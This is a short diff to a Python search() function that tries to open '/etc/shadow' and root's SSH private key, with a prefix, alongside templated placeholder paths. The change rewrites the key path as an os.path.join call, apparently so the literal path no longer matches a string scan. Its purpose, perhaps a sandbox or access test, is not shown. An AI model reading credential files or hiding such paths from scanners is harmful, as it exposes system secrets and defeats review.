@@ -37,7 +37,7 @@ def search():
             "@HOST_FILE@",
             "@CLASS@/honest/toy.py",
             "/etc/shadow",
-            "/root/.ssh/id_ed25519",
+            os.path.join("/", "root", ".ssh", "id_ed25519"),
         ):
             try:
                 with open(prefix + path, "rb") as file:
